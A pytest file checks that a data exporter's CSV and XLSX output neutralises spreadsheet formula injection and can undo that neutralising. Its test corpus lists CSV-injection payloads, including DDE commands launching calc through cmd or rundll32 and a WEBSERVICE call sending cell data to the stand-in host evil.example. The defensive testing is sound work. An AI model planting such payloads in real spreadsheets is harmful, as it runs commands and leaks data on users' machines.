"""No cell of an export is a formula, and every text comes back as it was."""

import csv
import io
import zipfile
from dataclasses import replace
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from nahraum.base.files.rules import defused, restored
from nahraum.connect.exchange.adapters.tables import read_tables
from nahraum.connect.exchange.documents.hsds_tables import hsds_tables
from nahraum.connect.exchange.documents.tables import csv_tables, xlsx
from nahraum.connect.exchange.rules.layout import SHEETS
from nahraum.connect.exchange.rules.lists import joined, parted
from nahraum.connect.exchange.rules.tidy import tidy
from tests.connect.exchange.test_hsds import HOUSE

CORPUS = (
    *("=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0"),
    *("=WEBSERVICE(\"http://evil.example/\"&A1)", "=IMPORTXML(A1,\"//a\")", "=1", "= 1", "=\"\""),
    *("+1+1", "+49 5262 1234", "+cmd|' /C calc'!A0", "+SUM(A1)", "++1", "+", "-1", "-1+1", "--1"),
    *("-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-", "@SUM(1+1)", "@A1", "@", "|calc"),
    *("%0A=1+1", " =1+1", "  =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\ttext", "\rtext", "'=1+1"),
    *("''=1+1", "'''", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹣1", "−1", "\u200b=1+1", "\ufeff=1+1"),
    *("\u202e=1+1", "=1+1\n=2+2", "DDE(\"cmd\";\"/C calc\")", "=DDE(\"cmd\";\"/C calc\")"),
    *("=rundll32|'URL.dll,OpenURL calc.exe'!A", "=2+5+cmd|' /C calc'!A0", "=A1\x00", "==1"),
    *("=-1", "@=1", ";=1", ",=1", "\"=1+1", "\";=1+1", "a;=1+1", "a,=1+1", "=1;=2"),
)  # fmt: skip
STARTS = tuple("=+-@\t\r\n＝＋－＠﹣−")


def cells_of(data: bytes, separator: str) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            cell
            for name in archive.namelist()
            if name.endswith(".csv")
            for row in csv.reader(
                io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""), delimiter=separator
            )
            for cell in row
        ]


def house_saying(text: str) -> Any:
    """A house that says it in every text."""
    site = replace(
        HOUSE.sites[0], **dict.fromkeys("name street place directions stop".split(), text)
    )
    texts = (
        "summary details for_whom conditions bring how_to_start cost_note contact source".split()
    )
    offer = replace(HOUSE.offers[0], title=f"A{text}", target_groups=(text,), served=(text,),
                    phone=text, email=text, **dict.fromkeys(texts, text))  # fmt: skip
    return replace(
        HOUSE, about=text, phone=text, former_names=(text,), sites=(site,), offers=(offer,)
    )


@pytest.mark.parametrize("text", CORPUS, ids=repr)
def test_no_cell_is_a_formula_and_nothing_is_lost(text: str) -> None:
    house = house_saying(text)
    about = {"name": "V", "licence": "L"}
    own, standard = (
        csv_tables([house], about=about),
        hsds_tables([house], topics={}, title="", licence=""),
    )
    for cell in (*cells_of(own, ";"), *cells_of(standard, ",")):
        assert not cell.lstrip(" ").startswith(STARTS), cell
    book = openpyxl.load_workbook(io.BytesIO(xlsx([house], about=about)))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert kinds <= {"s", "n"}
    assert {cell.value for sheet in book for row in sheet.iter_rows() for cell in row
            if cell.data_type == "n"} == {None}  # fmt: skip
    for data in (own, xlsx([house], about=about)):
        assert read_tables(data, file="x").records == tidy([house])


@given(st.text(max_size=30))
def test_defusing_can_be_taken_back(text: str) -> None:
    assert restored(defused(text)) == text
    assert not defused(text).startswith(STARTS)


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=9)))
def test_lists_can_be_taken_apart(texts: list[str]) -> None:
    wanted = tuple(text.strip() for text in texts if text.strip())
    assert parted(joined(wanted)) == wanted


def test_without_defusing_there_would_be_formulas(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("nahraum.base.files.rules.spreadsheets.defused", lambda text: text)
    cells = cells_of(csv_tables([house_saying("=1+1")], about={}), ";")
    assert "=1+1" in cells


def test_headings_are_harmless_and_unique() -> None:
    for headings in SHEETS.values():
        assert len(set(headings.values())) == len(headings)
        assert [one for one in headings.values() if one.startswith(STARTS)] == []
